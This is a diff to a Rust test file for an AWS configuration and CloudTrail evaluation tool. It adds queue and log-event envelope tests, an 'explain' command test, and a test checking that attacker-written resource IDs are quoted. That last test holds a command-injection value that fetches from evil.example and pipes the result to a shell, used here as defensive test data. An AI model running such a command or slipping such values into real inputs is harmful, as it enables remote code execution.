@@ -75,6 +75,18 @@ fn sns(message: &Value) -> Value {
     json!({"Type": "Notification", "TopicArn": "arn:aws:sns:eu-west-1:111122223333:config", "Message": message.to_string()})
 }
 
+/// A message of the delivery channel in a queue.
+fn sqs(message: &Value) -> Value {
+    json!({"Records": [{"messageId": "m", "receiptHandle": "r", "body": message.to_string(), "eventSource": "aws:sqs",
+                        "eventSourceARN": "arn:aws:sqs:eu-west-1:111122223333:config", "awsRegion": REGION}]})
+}
+
+/// A batch of a log group that is the target of an EventBridge rule.
+fn log_events(event: &Value) -> Value {
+    json!({"messageType": "DATA_MESSAGE", "owner": ACCOUNT, "logGroup": "g", "logStream": "s", "subscriptionFilters": [],
+           "logEvents": [{"id": "a", "timestamp": 1, "message": event.to_string()}]})
+}
+
 /// A CloudTrail record.
 fn call(source: &str, name: &str, request: &Value, response: &Value) -> Value {
     json!({
@@ -505,6 +517,8 @@ fn a_state_has_the_findings_of_the_call_that_leads_to_it_however_it_arrives() {
             ("sns", sns(&message).to_string()),
             ("event", event(&message).to_string()),
             ("snapshot", json!({"fileVersion": "1.0", "configurationItems": [item]}).to_string()),
+            ("queue", sqs(&sns(&message)).to_string()),
+            ("log events", log_events(&event(&message)).to_string()),
         ] {
             let of_item = payload(&text);
             let name = format!("{resource_type} as {form}");
@@ -599,6 +613,20 @@ fn what_people_read_says_that_the_caller_is_unknown() {
     let output = run(&["evaluate", path.to_str().unwrap()]);
     assert_eq!(output.status.code(), Some(1));
     insta::assert_snapshot!("config_item_text", String::from_utf8(output.stdout).unwrap());
+}
+
+#[test]
+fn a_rule_is_explained_on_the_calls_that_lead_to_a_state() {
+    let path = fixture("envelopes/config-item.json");
+    let explain = |rule: &str| run(&["explain", "--rule", rule, path.to_str().unwrap()]);
+    let output = explain("sg-ingress-world-admin");
+    let text = String::from_utf8(output.stdout).unwrap();
+    assert!(text.contains("AuthorizeSecurityGroupIngress of ec2.amazonaws.com"), "{text}");
+    assert!(text.contains(": matches\n"), "{text}");
+    assert_eq!(output.status.code(), Some(0));
+    let output = explain("blocked-action");
+    assert_eq!(output.status.code(), Some(2));
+    assert!(String::from_utf8(output.stderr).unwrap().contains("only rules of the packs exposure and trust judge it"));
 }
 
 #[test]
@@ -872,6 +900,29 @@ fn an_oversized_item_is_fetched_or_rejected_with_what_to_do() {
     assert!(source.asked.borrow().is_empty());
     // Whoever only lists items gets the reason.
     assert_eq!(Reader::stream("input", Cursor::new(from_rule.into_bytes())).count(), 1);
+}
+
+#[test]
+fn what_an_attacker_writes_is_quoted_and_limited() {
+    let mut message = oversized("OK");
+    message["configurationItemSummary"]["resourceId"] = json!("sg-1`; curl evil.example | sh; `\u{1b}[31m");
+    message["s3DeliverySummary"] = Value::Null;
+    insta::assert_snapshot!(payload(&message.to_string()).reasons().join("\n"), @r"input: the configuration item of AWS::EC2::SecurityGroup sg-1`; curl evil.example | sh; `\u{1b}[31m is too large for the message and is not in it; get the item with `aws configservice get-resource-config-history --resource-type AWS::EC2::SecurityGroup --resource-id 'sg-1`; curl evil.example | sh; `\u{1b}[31m' --later-time 2026-03-04T10:00:22.418Z --limit 1` and evaluate the output");
+    let routes: Vec<Value> = (0..2001)
+        .map(|number| json!({"destinationCidrBlock": format!("10.{}.{}.0/24", number / 256, number % 256), "gatewayId": "igw-1"}))
+        .collect();
+    let table = item("AWS::EC2::RouteTable", "rtb-0123456789abcdef0", &json!({"routes": routes}));
+    let reasons = payload(&self::message(&table).to_string()).reasons();
+    assert_eq!(
+        reasons,
+        [
+            "input: the configuration item of AWS::EC2::RouteTable rtb-0123456789abcdef0 has more parts than AWS allows for a resource"
+        ]
+    );
+    // A record that claims to be a state is judged as a call.
+    let mut record = call("ec2", "DeleteVpc", &json!({"vpcId": "vpc-1"}), &Value::Null);
+    record["configurationItem"] = json!({"resourceType": "AWS::EC2::VPC"});
+    assert_eq!(payload(&record.to_string()).findings[0].rule.name, "blocked-action");
 }
 
 #[test]
